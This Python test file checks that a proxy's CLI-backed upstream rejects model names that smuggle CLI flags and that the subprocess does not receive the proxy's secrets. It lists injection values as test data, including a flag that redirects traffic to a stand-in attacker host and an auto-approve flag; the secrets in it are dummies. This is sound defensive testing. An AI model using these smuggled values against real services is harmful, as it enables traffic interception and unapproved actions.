"""CLI-backed providers (issue 34, attack 4): the model name a client sends cannot become a
flag of the CLI (`[cli]gemini:--proxy=http://attacker.example:8080`), and the CLI's process
does not inherit brim's secrets. Driven through the openai SDK (CLI upstreams answer Chat
Completions only) at a fake CLI that records its arguments and environment."""

from __future__ import annotations

import json
import stat
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openai
import pytest

from brim.adapters.cli import ChildEnv
from brim.adapters.upstream_config import UpstreamConfig
from brim.proxy.app import bound_port, cli_child_env, start
from brim.proxy.config import BrimConfig
from tests.fakes import LoopThread

# Speaks Gemini CLI's stream-JSON; writes its argv and environment to $RUNS/<pid>.json.
FAKE_GEMINI = r"""#!{python}
import json, os, sys
prompt = sys.stdin.read()
with open(os.path.join({runs!r}, f"{{os.getpid()}}.json"), "w") as f:
    json.dump({{"argv": sys.argv[1:], "env": dict(os.environ)}}, f)
def out(obj):
    print(json.dumps(obj), flush=True)
out({{"type": "message", "role": "assistant", "content": "ran"}})
out({{"type": "result", "status": "success", "stats": {{"input_tokens": 3, "output_tokens": 1}}}})
"""

SECRETS = {
    "EDGE_OPENAI_KEY": "sk-openai-upstream-secret",
    "EDGE_ANTHROPIC_KEY": "sk-ant-upstream-secret",
    "EDGE_BRIM_KEYS": "sk-brim-one,sk-brim-two",
    "EDGE_ADMIN_KEYS": "brim-admin-secret-key",
    "EDGE_CI_KEY": "sk-brim-two",
}
OWN_KEY = ("EDGE_GEMINI_CLI_KEY", "AIza-the-cli-own-key")
ATTACKS = [
    "[cli]gemini:--proxy=http://attacker.example:8080",
    "[cli]gemini:--yolo",
    "[cli]gemini:-y",
    "[cli]gemini:flash --yolo",
    "[cli]gemini:flash\n--yolo",
    "[cli]gemini:flash=x",
]


@pytest.fixture
def cli_brim(
    loop_thread: LoopThread, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Callable[[], tuple[str, Path]]]:
    """brim with a Gemini-CLI upstream (the fake) beside API upstreams, brim keys, admin keys
    and a key limit, every secret in brim's environment; its base URL and the runs' folder."""
    runners: list[Any] = []

    def make() -> tuple[str, Path]:
        runs = tmp_path / "runs"
        runs.mkdir()
        script = tmp_path / "gemini"
        script.write_text(FAKE_GEMINI.format(python=sys.executable, runs=str(runs)))
        script.chmod(script.stat().st_mode | stat.S_IXUSR)
        for name, value in {**SECRETS, OWN_KEY[0]: OWN_KEY[1]}.items():
            monkeypatch.setenv(name, value)
        monkeypatch.setenv("BRIM_TELEMETRY__PROMETHEUS", "true")  # brim's own settings
        monkeypatch.setenv("EDGE_ORDINARY", "kept")
        config = BrimConfig(
            server={
                "api_keys_env": "EDGE_BRIM_KEYS",
                "admin_keys_env": "EDGE_ADMIN_KEYS",
                "key_limits": {"ci": {"key_env": "EDGE_CI_KEY", "requests_per_minute": 100}},
            },
            upstreams={
                "gem": {
                    "api": "cli",
                    "command": str(script),
                    "api_key_env": OWN_KEY[0],
                    "env": {"EDGE_FROM_UPSTREAM": "set"},
                    "workdir": str(tmp_path),
                },
                "openai": {
                    "api": "openai",
                    "base_url": "http://127.0.0.1:9/v1",
                    "api_key_env": "EDGE_OPENAI_KEY",
                },
                "anthropic": {
                    "api": "anthropic",
                    "base_url": "http://127.0.0.1:9",
                    "api_key_env": "EDGE_ANTHROPIC_KEY",
                },
            },
            routes={"[cli]gemini:*": "gem", "claude-*": "anthropic", "*": "openai"},
        )
        runner = loop_thread.run(start(config, "127.0.0.1", 0))
        runners.append(runner)
        return f"http://127.0.0.1:{bound_port(runner)}", runs

    yield make
    for runner in runners:
        loop_thread.run(runner.cleanup())


def client(base: str) -> openai.OpenAI:
    return openai.OpenAI(base_url=f"{base}/v1", api_key="sk-brim-one", max_retries=0)


def recorded(runs: Path) -> list[dict[str, Any]]:
    return [json.loads(path.read_text()) for path in sorted(runs.iterdir())]


@pytest.mark.parametrize("model", ATTACKS)
def test_a_model_tail_cannot_become_a_cli_flag(
    cli_brim: Callable[[], tuple[str, Path]], model: str
) -> None:
    base, runs = cli_brim()
    with pytest.raises(openai.BadRequestError) as refused:
        client(base).chat.completions.create(
            model=model, messages=[{"role": "user", "content": "hi"}]
        )
    assert refused.value.status_code == 400
    assert "not a plain model name" in refused.value.message
    assert recorded(runs) == []  # no CLI was started


def test_the_model_flag_is_one_argument(cli_brim: Callable[[], tuple[str, Path]]) -> None:
    base, runs = cli_brim()
    answer = client(base).chat.completions.create(
        model="[cli]gemini:gemini-2.5-flash", messages=[{"role": "user", "content": "hi"}]
    )
    assert answer.choices[0].message.content == "ran"
    (run,) = recorded(runs)
    assert "--model=gemini-2.5-flash" in run["argv"] and "--model" not in run["argv"]


def test_the_cli_does_not_inherit_brims_secrets(cli_brim: Callable[[], tuple[str, Path]]) -> None:
    """Every variable brim's config names as a secret (upstream keys, brim keys, admin keys, a
    key limit's key) and brim's own BRIM_ settings stay out of the CLI's environment; its own
    `api_key_env`, its upstream's `env` and everything else are there."""
    base, runs = cli_brim()
    client(base).chat.completions.create(
        model="[cli]gemini:flash", messages=[{"role": "user", "content": "hi"}]
    )
    (run,) = recorded(runs)
    env: dict[str, str] = run["env"]
    assert not set(SECRETS) & set(env)
    assert not any(name.startswith("BRIM_") for name in env)
    leaked = [value for value in SECRETS.values() for held in env.values() if value in held]
    assert leaked == []
    assert env[OWN_KEY[0]] == OWN_KEY[1]
    assert env["EDGE_FROM_UPSTREAM"] == "set" and env["EDGE_ORDINARY"] == "kept"
    assert "PATH" in env


def test_a_redis_password_stays_out_of_the_cli(monkeypatch: pytest.MonkeyPatch) -> None:
    """`[cache] url` holds its password in the URL; a variable holding it (the URL itself, or
    the password alone) is not passed on."""
    password = "s3cret-redis-pass"
    config = BrimConfig(cache={"url": f"redis://:{password}@127.0.0.1:6379/0"})
    child = cli_child_env(config)
    upstream = UpstreamConfig(api="cli", command="gemini")
    parent = {
        "REDIS_URL": f"redis://default:{password}@cache:6379",
        "REDIS_PASSWORD": password,
        "HOME": "/home/someone",
    }
    assert child.environment(parent, upstream) == {"HOME": "/home/someone"}
    short = cli_child_env(BrimConfig(cache={"url": "redis://:pw@127.0.0.1:6379/0"}))
    assert short.environment({"PWD": "/pw/x", "U": "redis://:pw@h"}, upstream) == {"PWD": "/pw/x"}
    assert isinstance(child, ChildEnv)
